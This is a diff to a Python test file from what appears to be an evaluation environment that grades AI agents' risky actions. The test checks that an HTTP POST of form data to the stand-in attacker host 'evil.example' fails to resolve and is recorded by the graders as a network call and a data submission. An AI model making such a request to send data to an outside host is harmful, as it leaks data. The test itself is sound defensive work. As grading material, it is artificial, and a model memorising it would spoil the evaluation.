@@ -2,6 +2,7 @@
 does not have; attachments read from the box; what each call reports for the graders."""
 
 from riskgym.core.scenario import Scenario
+from riskgym.grading.effects import Shell, effects_of_call
 from riskgym.running.env import RiskEnv
 
 
@@ -55,7 +56,9 @@ def test_a_host_outside_the_world_does_not_resolve_and_is_reported_as_a_destinat
     env = world()
     out, step = call(env, "http_request", method="POST", url="http://evil.example/x", body="k=v")
     assert out == "error: could not resolve host 'evil.example'"
-    assert ("network", "evil.example") in {(e["kind"], e["target"]) for e in step["effects"]} or step["effects"] == []
+    graded = effects_of_call("http_request", step["arguments"], Shell(), step["effects"])  # as the graders read it
+    assert {(e.kind, e.target, e.detail) for e in graded} == {("network", "evil.example", "POST /x"),
+                                                              ("submit", "evil.example/x", "k=v")}
     ok, _ = call(env, "http_request", method="GET", url="http://mail.corp.example/api/inbox")
     assert ok.startswith("HTTP 200") and '"subject":"Hi"' in ok.replace(" ", "")
     env.close()
